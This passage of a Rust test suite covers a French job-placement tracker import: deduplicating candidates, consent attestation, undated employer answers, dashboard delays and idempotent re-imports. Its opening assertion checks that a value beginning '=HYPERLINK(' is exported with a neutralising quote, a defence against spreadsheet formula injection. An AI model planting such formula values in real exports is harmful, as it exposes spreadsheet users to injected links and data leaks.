    assert!(text.contains("suivi-agence;13;I – Métier visé;Astronaute;Métier introuvable"), "{text}");
    assert!(text.contains(";\"'=HYPERLINK("), "the formula quoted: {text}");
}

/// A tracker that states the same promotion twice (the sending, then the employer's
/// answer a line below): the second line is a later event of the promotion the first one
/// created in the same import, not a second promotion.
#[test]
fn a_promotion_stated_twice_in_one_file_gets_its_later_event() {
    let (dir, db) = world();
    let path = dir.path().join("suivi-doublon.csv");
    std::fs::write(
        &path,
        "Nom;Prénom;Métier visé;Date consentement;Mode de recueil;Entreprise;SIRET;Date promo;Retour employeur\n\
         ROUX;Nathan;Boulanger;01/10/2026;écrit;Boulangerie Kerbrat;73282932000074;05/10/2026;\n\
         ROUX;Nathan;Boulanger;01/10/2026;écrit;Boulangerie Kerbrat;73282932000074;05/10/2026;entretien le 12/10\n",
    )
    .unwrap();
    let report = import::run(&db, &path, &ImportOptions::default(), now(), &Cancel::default(), &mut |_| {}).unwrap();
    let c = report.counts;
    assert_eq!(
        (c.imported, c.candidates_created, c.companies_created, c.promotions_created, c.promotions_updated),
        (2, 1, 1, 1, 1)
    );
    assert_eq!(
        report.rows[1].outcome,
        "Candidat déjà dans le vivier · Entreprise déjà enregistrée · Promotion mise à jour (Entretien prévu)"
    );
    let (promotions, status, events): (i64, String, String) = db
        .read(|c| {
            Ok(c.query_row(
                "SELECT count(*), max(status), (SELECT group_concat(kind, ',') FROM promotion_events) FROM promotions",
                [],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )?)
        })
        .unwrap();
    assert_eq!(
        (promotions, status.as_str(), events.as_str()),
        (1, "interview_planned", "created,sent,interview_planned")
    );
}

// The second pass's tracker (one person over rows that never share one identifier, a
// blank row inside a merged counsellor's block, a typo in an e-mail, two namesakes), as
// openpyxl and LibreOffice write it in each format: the same people from each, and a
// second import of the same file that creates nothing and rejects nothing.

#[test]
fn one_person_is_one_record_in_xlsx() {
    one_person_is_one_record("deuxieme-passage.xlsx");
}

#[test]
fn one_person_is_one_record_in_xls() {
    one_person_is_one_record("deuxieme-passage.xls");
}

#[test]
fn one_person_is_one_record_in_ods() {
    one_person_is_one_record("deuxieme-passage.ods");
}

#[test]
fn one_person_is_one_record_in_csv() {
    one_person_is_one_record("deuxieme-passage.csv");
}

fn one_person_is_one_record(name: &str) {
    let (_dir, db) = world();
    let report = run(&db, name, &ImportOptions::default());
    let c = report.counts;
    assert_eq!(
        (c.rows, c.imported, c.rejected, c.skipped),
        (7, 7, 0, 1),
        "{name}: seven people's rows, the blank one inside the merged block skipped: {:?}",
        report.issues
    );
    assert_eq!(report.sheets[0].blank_rows, 1, "{name}");
    assert_eq!((c.candidates_created, c.companies_created, c.promotions_created), (5, 3, 7), "{name}");
    let people: String = scalar(
        &db,
        "SELECT group_concat(line, ' | ') FROM (SELECT first_name || ' ' || last_name || ' ' || \
         coalesce(france_travail_id, '-') || ' ' || coalesce(email, '-') || ' ' || coalesce(phone, '-') || ' ' || \
         coalesce(commune, '-') AS line FROM candidates ORDER BY id) sub",
    );
    assert_eq!(
        people,
        "Léna GARNIER 3456789C lena.garnier@courriel.example 06 47 69 33 05 Rennes | \
         Hugo PETIT 2345678B hugo.petit@courriel.example - Lyon 3e Arrondissement | \
         Hugo PETIT - hugo.pettit@courriel.example - Lyon 3e Arrondissement | \
         Camille ROUX - camille.roux@courriel.example - Villeurbanne | \
         Camille ROUX - c.roux@courriel.example - Rennes",
        "{name}: Léna once, with all her identifiers; Hugo's typo kept apart; two Camille Roux"
    );
    let lena: i64 = scalar(
        &db,
        "SELECT count(*) FROM promotions p JOIN candidates c ON c.id = p.candidate_id WHERE c.first_name = 'Léna'",
    );
    assert_eq!(lena, 3, "{name}: Léna's three promotions on one record");
    // Only the typo is flagged, with both records.
    let doubts: Vec<&ImportIssue> = report.issues.iter().filter(|i| i.severity == IssueSeverity::Doubtful).collect();
    assert_eq!(doubts.len(), 1, "{name}: {doubts:?}");
    assert_eq!((doubts[0].row, doubts[0].value.as_str()), (8, "Hugo PETIT"), "{name}");
    assert!(
        doubts[0].reason.starts_with(
            "Peut-être la même personne que n° 2 (Hugo PETIT, Lyon 3e Arrondissement), avec une autre adresse e-mail"
        ),
        "{name}: {}",
        doubts[0].reason
    );

    let first = dump(&db);
    let again = run(&db, name, &ImportOptions::default());
    let c = again.counts;
    assert_eq!((c.imported, c.rejected, c.doubtful), (7, 0, 0), "{name}: {:?}", again.issues);
    assert_eq!(
        (c.candidates_created, c.candidates_updated, c.companies_created, c.promotions_created, c.promotions_updated),
        (0, 0, 0, 0, 0),
        "{name}: the second import changes nothing"
    );
    let records = |d: &str| d.lines().filter(|l| !l.contains("import.mapping:")).collect::<Vec<_>>().join("\n");
    assert_eq!(records(&dump(&db)), records(&first), "{name}");
}

/// A tracker kept before the consent rule (no consent column): nothing imported without
/// the counsellor's attestation; with it, the people it covers come in, their consent
/// dated as chosen and recorded as attested.
#[test]
fn a_tracker_without_consent_needs_the_counsellors_attestation() {
    let (_dir, db) = world();
    let file = "sans-consentement.xlsx";
    let report = preview(&db, file, &ImportOptions::default());
    assert!(report.no_consent_column);
    assert_eq!((report.counts.imported, report.counts.rejected), (0, 3));
    let listed: Vec<(u32, &str, bool)> =
        report.unstated_consents.iter().map(|u| (u.row, u.name.as_str(), u.attested)).collect();
    assert_eq!(listed, [(4, "Gwenaëlle LE DÛ", false), (5, "Yannick QUÉRÉ", false), (6, "Gwenaëlle LE DÛ", false)]);
    assert!(report.issues[0].reason.contains("attestez-le dans l'aperçu"), "{:?}", report.issues[0]);

    // Attested for Gwenaëlle only, at each person's first promotion in the file.
    let attest = |on: AttestedDay, excluded: Vec<RowRef>| ImportOptions {
        consent_attestation: Some(ConsentAttestation { on, channel: ConsentChannel::Written, excluded }),
        ..ImportOptions::default()
    };
    let yannick = RowRef { sheet: report.sheets[0].name.clone(), row: 5 };
    let report = run(&db, file, &attest(AttestedDay::FirstPromotion, vec![yannick.clone()]));
    let c = report.counts;
    assert_eq!(
        (c.imported, c.rejected, c.candidates_created, c.promotions_created),
        (2, 1, 1, 2),
        "{:?}",
        report.issues
    );
    let listed: Vec<(u32, bool)> = report.unstated_consents.iter().map(|u| (u.row, u.attested)).collect();
    assert_eq!(listed, [(4, true), (5, false)], "her second row joins the record her first made");
    let consent: String = scalar(
        &db,
        "SELECT consent_date || ' ' || consent_channel || ' ' || consent_expiry FROM candidates WHERE first_name = 'Gwenaëlle'",
    );
    assert_eq!(consent, "2026-10-06 written 2027-10-06", "her first promotion in the file, a year by default");
    let id: i64 = scalar(&db, "SELECT id FROM candidates WHERE first_name = 'Gwenaëlle'");
    let history = db.read(|c| candidates::get(c, id, now().date_naive())).unwrap().consent_history;
    assert_eq!(history.len(), 1);
    assert_eq!((history[0].kind, history[0].recorded_by.as_str()), (ConsentEventKind::Attested, "Claire Morel"));
    assert_eq!(
        history[0].note,
        "Consentement attesté à l'import par Claire Morel le 22/11/2026 : le tableau de suivi « sans-consentement.xlsx » \
         ne l'indiquait pas."
    );

    // One date for everyone: Yannick now comes in too, Gwenaëlle is already there.
    let report = run(&db, file, &attest(AttestedDay::Date("2026-09-01".into()), Vec::new()));
    assert_eq!((report.counts.candidates_created, report.counts.rejected), (1, 0), "{:?}", report.issues);
    let yannick: String = scalar(&db, "SELECT consent_date FROM candidates WHERE first_name = 'Yannick'");
    assert_eq!(yannick, "2026-09-01");

    // A date to come is refused, and nothing is written.
    let error = import::preview(
        &db,
        &fixture(file),
        &attest(AttestedDay::Date("2027-01-01".into()), Vec::new()),
        now(),
        &Cancel::default(),
        &mut |_| {},
    )
    .unwrap_err();
    assert!(matches!(error, Error::Validation(ref f) if f[0].field == "consentAttestation"), "{error:?}");
}

/// A tracker that gives some answers a date and others none (an empty « Date retour », an
/// unreadable one, one before the promotion): the dated ones keep their day, the others
/// are answers without a date — counted as answers, never as a 0-day delay. An interview
/// day read from the status text is a real date and is kept.
#[test]
fn answers_a_tracker_does_not_date_stay_undated_and_out_of_the_delay() {
    let (dir, db) = world();
    let path = dir.path().join("suivi-retours.csv");
    std::fs::write(
        &path,
        "Nom;Prénom;Métier visé;Date consentement;Mode de recueil;Entreprise;SIRET;Date promo;Retour employeur;Date retour\n\
         ROUX;Nathan;Boulanger;01/10/2026;écrit;Boulangerie Kerbrat;73282932000074;05/10/2026;intéressé;15/10/2026\n\
         LEFEBVRE;Manon;Boulanger;01/10/2026;écrit;Fournil du Rhône;34167211100018;06/10/2026;refus;\n\
         BERNARD;Inès;Boulanger;01/10/2026;écrit;Pains & Co;06840388000013;07/10/2026;embauché CDI;bientôt\n\
         FAURE;Jade;Boulanger;01/10/2026;écrit;Boulangerie Kerbrat;73282932000074;08/10/2026;entretien le 20/10;01/09/2026\n\
         GIRARD;Lucas;Boulanger;01/10/2026;écrit;Fournil du Rhône;34167211100018;09/10/2026;intéressée;13/10/2026\n\
         MOREAU;Camille;Boulanger;01/10/2026;écrit;Pains & Co;06840388000013;12/10/2026;pas de poste;13/10/2026\n\
         PETIT;Hugo;Boulanger;01/10/2026;écrit;Boulangerie Kerbrat;73282932000074;14/10/2026;;\n",
    )
    .unwrap();
    let import = || import::run(&db, &path, &ImportOptions::default(), now(), &Cancel::default(), &mut |_| {}).unwrap();
    let report = import();
    assert_eq!((report.counts.imported, report.counts.promotions_created), (7, 7), "{:?}", report.issues);
    // The dates the file gives but that cannot be used: flagged, the answer kept undated.
    let doubts: Vec<(u32, String, String)> = report
        .issues
        .iter()
        .filter(|i| i.column.contains("Date retour"))
        .map(|i| (i.row, i.value.clone(), i.reason.clone()))
        .collect();
    assert_eq!(
        doubts,
        [
            (4, "bientôt".to_owned(), "Date du retour illisible : le retour est repris sans date.".to_owned()),
            (
                5,
                "01/09/2026".to_owned(),
                "Date du retour hors de la période de la promotion : le retour est repris sans date.".to_owned()
            ),
        ]
    );

    // Each promotion's derived dates: a date or nothing, and the flags.
    let rows: String = scalar(
        &db,
        "SELECT group_concat(line, ' | ') FROM (SELECT c.first_name || ' ' || p.status || \
         coalesce(' answered ' || substr(p.answered_at, 1, 10), '') || \
         CASE p.answer_undated WHEN 1 THEN ' answered undated' ELSE '' END || \
         coalesce(' interview ' || substr(p.interview_planned_at, 1, 10), '') || \
         CASE p.interview_undated WHEN 1 THEN ' interview undated' ELSE '' END || \
         CASE p.status_undated WHEN 1 THEN ' status undated' ELSE '' END AS line \
         FROM promotions p JOIN candidates c ON c.id = p.candidate_id ORDER BY p.sent_at) sub",
    );
    assert_eq!(
        rows,
        "Nathan interested answered 2026-10-15 | \
         Manon refused answered undated status undated | \
         Inès hired answered undated status undated | \
         Jade interview_planned answered undated interview undated status undated | \
         Lucas interested answered 2026-10-13 | \
         Camille refused answered 2026-10-13 | \
         Hugo no_answer"
    );
    let interview: String = scalar(&db, "SELECT interview_at FROM promotion_events WHERE kind = 'interview_planned'");
    assert_eq!(interview, "2026-10-20", "« entretien le 20/10 »: the interview's own day, kept");

    // The timeline says which events have no date.
    let manon: i64 = scalar(&db, "SELECT id FROM candidates WHERE first_name = 'Manon'");
    let timeline = db.read(|c| promotions::timeline_of(c, TimelineOf::Candidate(manon))).unwrap();
    let history = &timeline.items[0];
    let log: Vec<(EventKind, bool)> = history.events.iter().map(|e| (e.kind, e.undated)).collect();
    assert_eq!(log, [(EventKind::Created, false), (EventKind::Sent, false), (EventKind::Refused, true)]);
    assert_eq!(history.events[2].at, history.promotion.sent_at.clone().unwrap(), "ordered after the sending");
    assert!(history.promotion.status_undated && history.promotion.answered_at.is_none());

    // The dashboard of October: six answers, the delay on the three dated ones (10, 4
    // and 1 days) — not on the undated three, which would read as three 0-day answers.
    let october =
        StatsQuery { period: Period::Month { on: NaiveDate::from_ymd_opt(2026, 10, 1) }, ..Default::default() };
    let dashboard = db.read(|c| stats::compute(c, &october, now())).unwrap();
    let i = &dashboard.indicators;
    assert_eq!((i.promotions, i.answered, i.answer_delay_basis), (7, 6, 3));
    assert_eq!((i.answer_delay_median, i.answer_delay_mean), (Some(4.0), Some(5.0)));
    assert_eq!((i.interviews, i.hires, i.refused), (2, 1, 2), "an undated interview and a hire are interviews");
    let tile = dashboard.headline.iter().find(|t| t.figure == Figure::AnsweredDated).unwrap();
    assert_eq!(tile.detail, "médiane · moyenne 5\u{a0}j · 3 réponses datées");
    let behind = |figure: Figure| -> Vec<String> {
        let query =
            FigureQuery { query: october.clone(), figure, company_id: None, reason: None, as_of: clock::stored(now()) };
        db.read(|c| {
            let ids = stats::figure_promotions(c, &query)?;
            let mut names = Vec::new();
            for id in ids {
                names.push(promotions::get(c, id)?.candidate_name);
            }
            Ok(names)
        })
        .unwrap()
    };
    assert_eq!(behind(Figure::AnsweredDated), ["Camille MOREAU", "Lucas GIRARD", "Nathan ROUX"]);
    assert_eq!(behind(Figure::Answered).len(), 6);

    // The same file again: nothing created, nothing updated, no record changed.
    let before = dump(&db);
    let again = import();
    let c = again.counts;
    assert_eq!((c.promotions_created, c.promotions_updated, c.promotions_unchanged), (0, 0, 7));
    let records = |d: &str| d.lines().filter(|l| !l.contains("import.mapping:")).collect::<Vec<_>>().join("\n");
    assert_eq!(records(&dump(&db)), records(&before), "a re-import changes no record");
}
